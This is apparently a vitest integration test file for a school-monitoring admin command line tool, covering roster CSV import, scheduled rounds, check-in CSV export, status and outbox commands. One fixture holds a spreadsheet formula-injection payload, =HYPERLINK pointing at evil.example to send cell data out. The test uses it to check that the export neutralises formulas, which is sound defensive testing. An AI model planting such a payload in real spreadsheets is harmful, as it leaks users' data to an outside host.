import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { asc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '../../src/db/database.js';
import { outbox, people, towns } from '../../src/db/schema/index.js';
import { recordMonthlyCheckIn } from '../helpers/monthly-check-in.js';
import { cliOverFreshDatabase, type CliOverDatabase, type CliRun } from '../helpers/run-cli.js';

/**
 * The real command line as an admin runs it: a child process over a fresh database. On Postgres
 * the test reads and writes the same database in-process; on PGlite (one process at a time) it
 * opens the data folder only between CLI runs.
 */


const EXPORT_HEADER = 'period,town,school,teacher,open_id,home_visits,phone_followups,new_alerts,note,submitted_at,late,revisions';

// BOM, reordered headers, an extra column (with a quoted comma) and an optional one.
const GOOD_CSV =
  '\uFEFF' +
  [
    'open_id,name,备注,role,chat_id,school,town,education_group',
    'ou_p1,王建华,,principal,oc_s1,横渠镇中心小学,横渠镇,横渠教育集团',
    'ou_t1,张国敏,"语文,数学",teacher,oc_s1,横渠镇中心小学,横渠镇,横渠教育集团',
    'ou_t2,李志军,,teacher,oc_s1,横渠镇中心小学,横渠镇,横渠教育集团',
    'ou_p3,赵明,,principal,oc_s3,齐镇中心小学,齐镇,',
    'ou_t4,陈静,,teacher,oc_s3,齐镇中心小学,齐镇,',
    'ou_t5,孙伟,,teacher,oc_s3,齐镇中心小学,齐镇,',
    'ou_b1,周强,,bureau,oc_bureau,,,',
  ].join('\r\n') +
  '\r\n';
const NOTE = '家长说"孩子很好",下周再访';
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")';
const T1_COUNTS = { home_visits: '6', phone_followups: '3', new_alerts: '1' };
const GOOD_OPEN_IDS = ['ou_p1', 'ou_t1', 'ou_t2', 'ou_p3', 'ou_t4', 'ou_t5', 'ou_b1'];

// Spreadsheet line numbers: the header is line 1. Lines 2, 4 and 6 are fine on their own.
const BAD_CSV = [
  'town,school,name,role,open_id,chat_id',
  '横渠镇,横渠镇中心小学,新老师甲,teacher,ou_new1,oc_s1',
  '横渠镇,横渠镇中心小学,某某,janitor,ou_new2,oc_s1', // 3: unknown role
  '横渠镇,横渠镇中心小学,张国民,teacher,ou_t1,oc_s1', // a valid rename of an existing person
  '横渠镇,,无校老师,teacher,ou_new3,oc_s1', // 5: teacher without a school
  '金渠镇,金渠镇中心小学,新老师乙,teacher,ou_new4,oc_s9', // a new town and school
  '金渠镇,金渠镇中心小学,新老师丙,teacher,ou_new5,oc_s10', // 7: the school's rows disagree on chat_id
  '金渠镇,金渠镇中心小学,新老师丁,teacher,ou_new1,oc_s9', // 8: duplicate open_id (line 2)
].join('\n') + '\n';

// The good file without 孙伟 (ou_t5) and 周强 (ou_b1).
const PARTIAL_CSV = [
  'town,school,education_group,name,role,open_id,chat_id',
  '横渠镇,横渠镇中心小学,横渠教育集团,王建华,principal,ou_p1,oc_s1',
  '横渠镇,横渠镇中心小学,横渠教育集团,张国敏,teacher,ou_t1,oc_s1',
  '横渠镇,横渠镇中心小学,横渠教育集团,李志军,teacher,ou_t2,oc_s1',
  '齐镇,齐镇中心小学,,赵明,principal,ou_p3,oc_s3',
  '齐镇,齐镇中心小学,,陈静,teacher,ou_t4,oc_s3',
].join('\n') + '\n';

type Run = CliRun;

let tmp: string;
let admin: CliOverDatabase | undefined;
const file = (name: string) => join(tmp, name);

const cli = (...args: string[]) => admin!.cli(...args);
const withDb = <T>(fn: (db: Db) => Promise<T>) => admin!.withDb(fn);

const allPeople = (db: Db) => db.select().from(people).orderBy(asc(people.id));

async function personOf(db: Db, openId: string) {
  const [person] = await db.select().from(people).where(eq(people.openId, openId));
  if (!person) throw new Error(`no person ${openId}`);
  return person;
}

/** stdout holds exactly one line: the command's result. */
function onlyLine(run: Run): string {
  const lines = run.stdout.split('\n').filter((l) => l.trim() !== '');
  expect(lines, run.stdout).toHaveLength(1);
  return lines[0]!;
}

/** The check-in export as Excel gets it: the UTF-8 BOM's bytes, then the documented header and one row per teacher. */
function checkinsCsv(run: Run): Map<string, Record<string, string>> {
  expect([...Buffer.from(run.stdout, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = run.stdout.slice(1);
  expect(text.split(/\r?\n/)[0]).toBe(EXPORT_HEADER);
  expect(text.split(/\r?\n/).filter((l) => l !== '')).toHaveLength(4); // header + 3 rows, nothing else
  // A strict parse: a stray quote or a wrong column count would throw.
  const records = parse(text, { columns: true, bom: false }) as Record<string, string>[];
  expect(records.map((r) => r.open_id).sort()).toEqual(['ou_t1', 'ou_t2', 'ou_t4']);
  return new Map(records.map((r) => [r.open_id!, r]));
}

/** An ISO-8601 instant with the +08:00 offset (not a neutralised cell), at the given moment. */
function instant(value: string | undefined, iso: string) {
  expect(value).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?\+08:00$/);
  expect(new Date(value!).getTime()).toBe(new Date(iso).getTime());
}

beforeAll(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'ducha-cli-'));
  await writeFile(file('good.csv'), GOOD_CSV);
  await writeFile(file('bad.csv'), BAD_CSV);
  await writeFile(file('partial.csv'), PARTIAL_CSV);
  // Sandbox mode: tick delivers to a sandbox on PORT; nothing listens on port 1, so sends fail fast and stay queued.
  admin = await cliOverFreshDatabase(tmp);
});

afterAll(async () => {
  await admin?.close();
  if (tmp) await rm(tmp, { recursive: true, force: true });
});

// Each command is a process that opens the database; on PGlite that costs seconds a run, so the
// import variants run on Postgres only (the import itself is tested on PGlite in-process).
const onPostgres = Boolean(process.env.DATABASE_URL);

describe('npm run cli', { timeout: 120_000 }, () => {
  it('import-roster imports a good file (BOM, extra column, reordered headers) and prints only a summary', async () => {
    const run = await cli('import-roster', file('good.csv'));
    expect(run.code, run.stderr).toBe(0);
    const summary = onlyLine(run);
    expect(summary).toMatch(/新增 7(，|$)/);
    expect(summary).toMatch(/更新 0(，|$)/);
    expect(summary).toMatch(/停用 0(，|$)/);
  });

  it.runIf(onPostgres)('import-roster of the same file again changes nothing', async () => {
    const run = await cli('import-roster', file('good.csv'));
    expect(run.code, run.stderr).toBe(0);
    const summary = onlyLine(run);
    expect(summary).toMatch(/新增 0(，|$)/);
    expect(summary).toMatch(/更新 0(，|$)/);
    expect(summary).toMatch(/未变 7(，|$)/);
    expect(summary).toMatch(/停用 0(，|$)/);
  });

  it.runIf(onPostgres)('import-roster of a bad file lists every bad line with its spreadsheet number, exits non-zero and imports nothing', async () => {
    const run = await cli('import-roster', file('bad.csv'));
    expect(run.code).not.toBe(0);
    expect(run.code).not.toBeNull();
    expect(run.stdout).toBe('');

    const reported = new Map<number, string>();
    for (const line of run.stderr.split('\n')) {
      const m = /第 (\d+) 行/.exec(line);
      if (m) reported.set(Number(m[1]), (reported.get(Number(m[1])) ?? '') + line);
    }
    expect([...reported.keys()].sort((a, b) => a - b), run.stderr).toEqual([3, 5, 7, 8]);
    expect(reported.get(3)).toContain('janitor');
    expect(reported.get(5)).toMatch(/school|学校/);
    expect(reported.get(7)).toContain('oc_s10');
    expect(reported.get(8)).toContain('ou_new1');

    await withDb(async (db) => {
      const everyone = await allPeople(db);
      expect(everyone.map((p) => p.openId).sort()).toEqual([...GOOD_OPEN_IDS].sort());
      expect((await personOf(db, 'ou_t1')).name).toBe('张国敏');
      expect((await db.select().from(towns)).map((t) => t.name).sort()).toEqual(['横渠镇', '齐镇'].sort());
    });
  });

  it.runIf(onPostgres)('import-roster --prune deactivates the people missing from the file', async () => {
    const run = await cli('import-roster', file('partial.csv'), '--prune');
    expect(run.code, run.stderr).toBe(0);
    const summary = onlyLine(run);
    expect(summary).toMatch(/未变 5(，|$)/);
    expect(summary).toMatch(/停用 2(，|$)/);

    await withDb(async (db) => {
      const everyone = await allPeople(db);
      expect(everyone).toHaveLength(7);
      for (const p of everyone) {
        expect(p.active, p.openId).toBe(p.openId !== 'ou_t5' && p.openId !== 'ou_b1');
      }
    });
  });

  it('tick --at opens the round and prints only its JSON report', async () => {
    const run = await cli('tick', '--at', '2026-12-01T09:00:00+08:00');
    expect(run.code, run.stderr).toBe(0);
    const report = JSON.parse(run.stdout) as { rounds: { opened: { campaign: string; period: string; prompts: number }[] } };
    // One prompt per school chat for the teachers' check-in; principals' campaigns open too (1:1).
    expect(report.rounds.opened).toContainEqual({ campaign: 'monthly-monitoring', period: '2026-12', prompts: 2 });
    expect(report.rounds.opened.map((o) => o.campaign)).toEqual(['monthly-monitoring', 'principal-monthly-plan', 'annual-report']);
  });

  it('export checkins --period --with-notes prints one CSV row per stored check-in, for Excel: BOM first, formulas neutralised', async () => {
    await withDb(async (db) => {
      const t1 = await personOf(db, 'ou_t1');
      const t2 = await personOf(db, 'ou_t2');
      const t4 = await personOf(db, 'ou_t4');
      const at = (iso: string) => new Date(iso);
      await recordMonthlyCheckIn(db, at('2026-12-02T10:00:00+08:00'), { person: t1, source: 'text', values: { homeVisits: 5, phoneFollowups: 3, newAlerts: 1, note: null } });
      // A correction: the earlier answer becomes a revision.
      await recordMonthlyCheckIn(db, at('2026-12-03T11:30:15+08:00'), { person: t1, source: 'card', values: { homeVisits: 6, phoneFollowups: 3, newAlerts: 1, note: NOTE } });
      await recordMonthlyCheckIn(db, at('2026-12-05T08:00:00+08:00'), { person: t2, source: 'text', values: { homeVisits: 2, phoneFollowups: 0, newAlerts: 0, note: HYPERLINK } });
      // After the deadline (25th 18:00): late.
      await recordMonthlyCheckIn(db, at('2026-12-26T08:00:00+08:00'), { person: t4, source: 'text', values: { homeVisits: 1, phoneFollowups: 1, newAlerts: 0, note: '@SUM(A1:A9)' } });
    });

    const run = await cli('export', 'checkins', '--period', '2026-12', '--with-notes');
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toBe('');
    const byOpenId = checkinsCsv(run);

    const t1 = byOpenId.get('ou_t1')!;
    expect(t1).toMatchObject({ period: '2026-12', town: '横渠镇', school: '横渠镇中心小学', teacher: '张国敏', ...T1_COUNTS, note: NOTE, late: 'false', revisions: '1' });
    instant(t1.submitted_at, '2026-12-03T11:30:15+08:00');

    // Excel would run these as formulas; a leading ' makes them text, the rest kept as written.
    const t2 = byOpenId.get('ou_t2')!;
    expect(t2).toMatchObject({ period: '2026-12', teacher: '李志军', home_visits: '2', phone_followups: '0', new_alerts: '0', note: `'${HYPERLINK}`, late: 'false', revisions: '0' });
    instant(t2.submitted_at, '2026-12-05T08:00:00+08:00');

    const t4 = byOpenId.get('ou_t4')!;
    expect(t4).toMatchObject({ period: '2026-12', town: '齐镇', school: '齐镇中心小学', teacher: '陈静', note: "'@SUM(A1:A9)", late: 'true', revisions: '0' });
    instant(t4.submitted_at, '2026-12-26T08:00:00+08:00');
  });

  it('export checkins without --with-notes leaves the note column empty (header unchanged) and says so on stderr', async () => {
    const run = await cli('export', 'checkins', '--period', '2026-12');
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr.trim().split('\n')).toEqual(['自由填写的文字栏（note）可能写有学生姓名，本次导出已留空；确需导出请加 --with-notes。']);
    const byOpenId = checkinsCsv(run);
    for (const record of byOpenId.values()) expect(record.note, record.open_id).toBe('');
    expect(byOpenId.get('ou_t1')).toMatchObject({ teacher: '张国敏', ...T1_COUNTS, revisions: '1' });
    expect(run.stdout).not.toContain('HYPERLINK');
    expect(run.stdout).not.toContain('孩子很好');
  });

  it('export --help explains --with-notes and the free-text columns', async () => {
    const run = await cli('export', '--help');
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('--with-notes');
    expect(run.stdout).toContain('type 为 text 的字段');
    expect(run.stdout).toContain('UTF-8 BOM');
  });

  it('status lists the open round\'s reminders, and --json gives the same events as one JSON document', async () => {
    const text = await cli('status', '--at', '2026-12-02T09:00:00+08:00');
    expect(text.code, text.stderr).toBe(0);
    expect(text.stdout).toMatch(/^2026-12-22 09:00 +monthly-monitoring +提醒 due-3d：2026-12 期，发给校长$/m);
    expect(text.stdout).toMatch(/^2027-01-04 08:00 +monthly-monitoring +开始填报 2027-01（截止 2027-01-25 18:00）$/m);

    const run = await cli('status', '--at', '2026-12-02T09:00:00+08:00', '--json');
    expect(run.code, run.stderr).toBe(0);
    const doc = JSON.parse(run.stdout) as { at: string; timezone: string; events: Record<string, string>[] };
    expect(doc.at).toBe('2026-12-02T09:00:00+08:00');
    expect(doc.events).toHaveLength(text.stdout.trim().split('\n').length);
    expect(doc.events).toContainEqual({ at: '2026-12-22T09:00:00+08:00', campaign: 'monthly-monitoring', kind: 'reminder', period: '2026-12', step: 'due-3d', to: 'principals' });
    expect(doc.events).toContainEqual({ at: '2027-01-04T08:00:00+08:00', campaign: 'monthly-monitoring', kind: 'opens', period: '2027-01', dueAt: '2027-01-25T18:00:00+08:00' });
  });

  it('outbox --json reports the queue the tick left as one JSON document; retry re-queues a dead letter', async () => {
    // The tick's prompts wait for a server; one is made a dead letter, as after the last failed attempt.
    const { rows, dead } = await withDb(async (db) => {
      const rows = await db.select().from(outbox).orderBy(asc(outbox.notBefore), asc(outbox.id));
      const [dead] = await db.update(outbox).set({ status: 'dead', lastError: 'HTTP 400 99991663' }).where(eq(outbox.id, rows.at(-1)!.id)).returning();
      return { rows, dead: dead! };
    });
    expect(rows.length).toBeGreaterThanOrEqual(3);
    expect(rows.every((r) => r.status === 'pending')).toBe(true);

    const run = await cli('outbox', '--json');
    expect(run.code, run.stderr).toBe(0);
    const doc = JSON.parse(run.stdout) as { byState: Record<string, number>; oldestPending: Record<string, unknown> | null; dead: Record<string, unknown>[] };
    expect(doc.byState).toEqual({ pending: rows.length - 1, sending: 0, sent: 0, dead: 1 });
    const first = rows[0]!;
    expect(doc.oldestPending).toMatchObject({ id: first.id, key: first.key, kind: first.kind, attempts: first.attempts, lastError: first.lastError, failingSince: null });
    expect(doc.oldestPending!.notBefore).toMatch(/\+08:00$/);
    expect(new Date(doc.oldestPending!.notBefore as string).getTime()).toBe(Math.floor(first.notBefore.getTime() / 1000) * 1000);
    expect(doc.dead).toEqual([{ id: dead.id, key: dead.key, kind: dead.kind, lastError: 'HTTP 400 99991663' }]);

    const textual = await cli('outbox');
    expect(textual.stdout).toContain(`待发送 ${rows.length - 1}  发送中 0  已发送 0  死信 1`);
    expect(textual.stdout).toContain(`最早待发：#${first.id} ${first.kind}`);
    expect(textual.stdout).toContain(`死信 #${dead.id} ${dead.kind} ${dead.key}：HTTP 400 99991663`);
    const retry = await cli('outbox', 'retry', String(dead.id));
    expect(retry.code, retry.stderr).toBe(0);
    expect(retry.stdout.trim()).toBe(`第 ${dead.id} 条已重新排队`);
    const after = await withDb((db) => db.select({ status: outbox.status }).from(outbox).where(eq(outbox.id, dead.id)));
    expect(after).toEqual([{ status: 'pending' }]);
  });

  it('export checkins refuses a bad --period on stderr', async () => {
    const run = await cli('export', 'checkins', '--period', '2026-13');
    expect(run.code).not.toBe(0);
    expect(run.code).not.toBeNull();
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain('2026-13');
  });

  it('tick refuses an --at that is not an instant with exit code 2', async () => {
    const run = await cli('tick', '--at', 'not-a-date');
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr.trim()).toBe('--at 须为 ISO-8601 时刻，例如 2026-12-01T09:00:00+08:00（收到「not-a-date」）');
  });

  it('an unknown command exits non-zero with the usage on stderr', async () => {
    const run = await cli('frobnicate');
    expect(run.code).not.toBe(0);
    expect(run.code).not.toBeNull();
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain('没有「frobnicate」这个命令。');
    expect(run.stderr).toContain('用法：npm run cli -- 命令 [参数]');
    for (const command of ['migrate', 'import-roster', 'seed-demo', 'tick', 'export checkins']) expect(run.stderr).toContain(command);
  });

  it('an unknown flag is a usage error (exit 2, the command\'s usage on stderr), not a stack trace', async () => {
    const run = await cli('status', '--frobnicate');
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain('参数有误');
    expect(run.stderr).toContain('--frobnicate');
    expect(run.stderr).toContain('用法：npm run cli -- status [--at ISO-8601] [--json]');
    expect(run.stderr).not.toMatch(/\n\s+at /);
  });

  it('help prints the usage and exits 0', async () => {
    const run = await cli('help');
    expect(run.code).toBe(0);
    expect(run.stderr).toBe('');
    for (const command of ['migrate', 'import-roster', 'seed-demo', 'tick', 'export checkins']) expect(run.stdout).toContain(command);
    expect(run.stdout).toContain('用法：npm run cli -- 命令 [参数]');
    expect(run.stdout).toMatch(/^ +status \[--at ISO-8601\] \[--json\] +接下来排定的事项/m);
    expect(run.stdout).toMatch(/^ +outbox \[--json\] \| outbox retry ID +按状态统计/m);
  });
});
